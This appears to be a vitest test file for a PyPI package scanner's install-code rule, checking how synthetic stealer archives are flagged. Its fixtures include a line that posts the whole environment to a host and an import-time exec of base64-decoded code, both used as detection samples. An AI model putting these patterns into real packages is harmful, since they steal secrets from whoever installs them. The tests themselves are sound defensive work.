// The install-code rule on facts from real scans of synthetic archives: one finding per check, the
// worst level, the lines quoted, inspector links as evidence; notes only where they help.
import { describe, expect, it } from 'vitest';
import { HIGH_ENTROPY_BITS, HIDDEN_AFTER_BLANKS, LONG_LINE_CHARS } from '../../../../../utils/analysis/code-scan/setup-py';
import { scanDistribution } from '../../../../../utils/analysis/code-scan';
import type { CodeFacts, CodeFinding } from '../../../../../utils/contract/report';
import { AUTO_SCAN_MAX_BYTES } from '../../../../../utils/sources/files';
import { judge } from '../../../../../utils/trust';
import { installCode } from '../../../../../utils/trust/rules/install-code';
import { inputFor, ok } from '../facts';
import { syntheticHistory } from '../../../../support/release-facts';
import {
  INSTALL_HOOK_SETUP_PY,
  ENV_EXFIL_INIT_PY,
  HARMLESS_B64,
  SETUPTOOLS_PTH,
  metaFor,
  syntheticSdist,
  syntheticWheel,
} from '../../analysis/code-scan/synthetic-archives';

const ctx = { now: '2026-11-25T12:00:00.000Z' };

function facts(findings: CodeFinding[], overrides: Partial<CodeFacts> = {}): CodeFacts {
  return {
    version: '1.0.0',
    status: 'scanned',
    totalBytes: 1000,
    capBytes: AUTO_SCAN_MAX_BYTES,
    hasSdist: true,
    hasWheel: true,
    distributions: [],
    findings,
    ...overrides,
  };
}

const inputWith = (code: CodeFacts) => ({ ...inputFor('synthetic-stealer', '1.0.0', '1.0.0', {}), code: ok(code) });

describe('install-code rule: new in this release', () => {
  const established = {
    ...inputFor('synthetic-stealer', '1.0.0', '1.0.0', {}),
    releases: ok(
      syntheticHistory(
        'synthetic-stealer',
        Array.from({ length: 12 }, (_, i) => ({
          version: `0.${i}`,
          uploadedAt: new Date(Date.parse('2024-01-01T00:00:00Z') + i * 60 * 86_400_000).toISOString(),
          fileCount: 1,
          yanked: false,
          yankedReason: null,
          isPrerelease: false,
        })),
        '0.11',
      ),
    ),
  };
  const danger = (newInRelease: boolean): CodeFinding => ({
    check: 'exfiltration',
    level: 'danger',
    filename: 'x.whl',
    path: 'pkg/__init__.py',
    line: 2,
    excerpt: 'requests.post(U, json=dict(os.environ))',
    detail: 'Sends the environment.',
    url: null,
    runs: 'import',
    newInRelease,
  });
  const compared = { comparedWith: { version: '0.10', state: 'compared' as const, reason: null } };

  it("danger new in an established project's release: 'this release newly runs …, which the previous release did not'", () => {
    const [f] = installCode.evaluate({ ...established, code: ok(facts([danger(true)], compared)) }, ctx);
    expect(f!.title).toBe(
      'This release newly runs code that sends secrets or talks to a drop host, which the previous release (0.10) did not',
    );
    expect(f!.detail).toMatch(/^New in this release: /);
  });

  it('the same danger already in the previous release, or a young project: the usual title', () => {
    expect(installCode.evaluate({ ...established, code: ok(facts([danger(false)], compared)) }, ctx)[0]!.title).toBe(
      'The code sends secrets or talks to a drop host',
    );
    expect(installCode.evaluate(inputWith(facts([danger(true)], compared)), ctx)[0]!.title).toBe(
      'The code sends secrets or talks to a drop host',
    );
  });
});

describe('install-code rule', () => {
  it('import-time findings are judged too, titled by when they run; import-time network use alone is no finding', async () => {
    const wheel = syntheticWheel({ 'pkg/__init__.py': ENV_EXFIL_INIT_PY });
    const scan = await scanDistribution(wheel, metaFor('pkg-1.0.0-py3-none-any.whl', 'pkg', '1.0.0'));
    expect(installCode.evaluate(inputWith(facts(scan.findings)), ctx).map((f) => [f.level, f.title])).toEqual([
      ['danger', 'The code sends secrets or talks to a drop host'],
    ]);
    const decoded = syntheticWheel({ 'pkg/__init__.py': `import base64\nexec(base64.b64decode("${HARMLESS_B64}"))\n` });
    const second = await scanDistribution(decoded, metaFor('pkg-1.0.0-py3-none-any.whl', 'pkg', '1.0.0'));
    expect(installCode.evaluate(inputWith(facts(second.findings)), ctx).map((f) => [f.level, f.title])).toEqual([
      ['danger', 'Import-time code runs hidden, decoded code'],
    ]);
  });

  it('turns a scanned install hook with a decoded stage into danger findings with inspector evidence', async () => {
    const sdist = await syntheticSdist('synthetic-stealer', '1.0.0', { 'setup.py': INSTALL_HOOK_SETUP_PY });
    const scan = await scanDistribution(sdist, metaFor('synthetic-stealer-1.0.0.tar.gz', 'synthetic-stealer', '1.0.0'));
    const findings = installCode.evaluate(inputWith(facts(scan.findings)), ctx);
    expect(findings.map((f) => [f.level, f.title])).toEqual([
      ['danger', 'setup.py replaces the install step with its own code'],
      ['danger', 'Install code runs hidden, decoded code'],
    ]);
    const decoded = findings[1]!;
    expect(decoded.detail).toContain('synthetic-stealer-1.0.0/setup.py line 12: exec(base64.b64decode(');
    expect(decoded.evidence).toEqual([
      {
        label: 'setup.py line 12 on inspector.pypi.io',
        url: 'https://inspector.pypi.io/project/synthetic-stealer/1.0.0/packages/ab/cd/0123456789abcdef/synthetic-stealer-1.0.0.tar.gz/synthetic-stealer-1.0.0/setup.py#line.12',
      },
    ]);
    // The verdict names it: a danger always names its cause.
    const { verdict } = judge(inputWith(facts(scan.findings)), ctx);
    expect(verdict.level).toBe('danger');
    expect(verdict.headline).toMatch(/^Danger: setup\.py replaces the install step/);
  });

  it('keeps the sdist-only and explained .pth notes, drops script notes (they stay in the Code section)', async () => {
    const wheel = syntheticWheel({
      'distutils-precedence.pth': SETUPTOOLS_PTH,
      '_distutils_hack/__init__.py': '',
      'x.data/scripts/tool': '#!python\n',
    });
    const scan = await scanDistribution(wheel, metaFor('setuptools-65.5.0-py3-none-any.whl', 'setuptools', '65.5.0'));
    const sdistOnly: CodeFinding = {
      check: 'sdist-only',
      level: 'info',
      filename: 'x.tar.gz',
      path: null,
      line: null,
      excerpt: null,
      detail: 'No wheel.',
      url: null,
    };
    const findings = installCode.evaluate(inputWith(facts([...scan.findings, sdistOnly])), ctx);
    expect(findings.map((f) => [f.level, f.title])).toEqual([
      ['info', 'A .pth file runs at Python start (known, harmless)'],
      ['info', 'No wheel: installing runs setup.py'],
    ]);
    expect(findings[1]!.evidence).toEqual([
      { label: 'Files of 1.0.0 on PyPI', url: 'https://pypi.org/project/synthetic-stealer/1.0.0/#files' },
    ]);
  });

  it('a file pip would run but the scan could not read is a caution; the count includes what the caps cut', async () => {
    const wheel = syntheticWheel(Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`p${i}.pth`, new Uint8Array(3 * 1024 * 1024)])));
    const scan = await scanDistribution(wheel, metaFor('x-1.0-py3-none-any.whl', 'x', '1.0'));
    const [finding] = installCode.evaluate(inputWith(facts(scan.findings)), ctx);
    expect([finding!.level, finding!.title]).toEqual(['caution', 'Install code could not be checked']);
    expect(finding!.detail).toMatch(/^Not checked: larger than 2 MB\..* \(\+27 more in the Code section\)$/);
  }, 30_000); // a 90 MB wheel built in the test: slow on a busy 2-core machine

  it('says nothing when the code section is absent, loading elsewhere, or failed', () => {
    const base = inputFor('x', '1.0', '1.0', {});
    expect(installCode.evaluate(base, ctx)).toEqual([]);
    expect(installCode.evaluate({ ...base, code: { state: 'error', error: { kind: 'not-found', message: 'gone' } } }, ctx)).toEqual([]);
  });

  it('documents the same limits the scanner uses', () => {
    const byName = Object.fromEntries(installCode.thresholds.map((t) => [t.name, t.value]));
    expect(byName).toEqual({ AUTO_SCAN_MAX_BYTES, LONG_LINE_CHARS, HIDDEN_AFTER_BLANKS, HIGH_ENTROPY_BITS });
  });
});
